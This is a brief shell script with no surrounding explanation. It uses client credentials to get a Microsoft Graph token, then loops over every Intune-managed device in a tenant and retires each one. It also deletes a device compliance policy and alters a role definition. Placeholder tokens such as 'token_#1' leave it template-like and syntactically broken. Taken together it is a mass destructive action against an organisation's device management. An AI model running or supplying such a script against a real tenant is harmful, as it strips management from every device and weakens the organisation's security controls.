token_#1=$(curl -s -X POST "https://login.microsoftonline.com/$TENANT/oauth2/v2.0/token" -d "client_id=$CLIENT" -d "client_secret=$SECRET" -d grant_type=client_credentials | jq -r .access_token)
base_#1="https://graph.microsoft.com/beta/deviceManagement"
for id in $(curl -s -H "Authorization: Bearer $token_#1" "$base_#1/managedDevices" | jq -r '.value[].id'); do
    curl -s -X POST -H "Authorization: Bearer $token_#1" -H 'Content-Length: 0' "$base_#1/managedDevices/$id/retire"
done
az rest --method delete --url "$base_#1/deviceCompliancePolicies/#2"
az rest --method patch --url "$base_#1/roleDefinitions/#3" --body '{"description": "x"}'

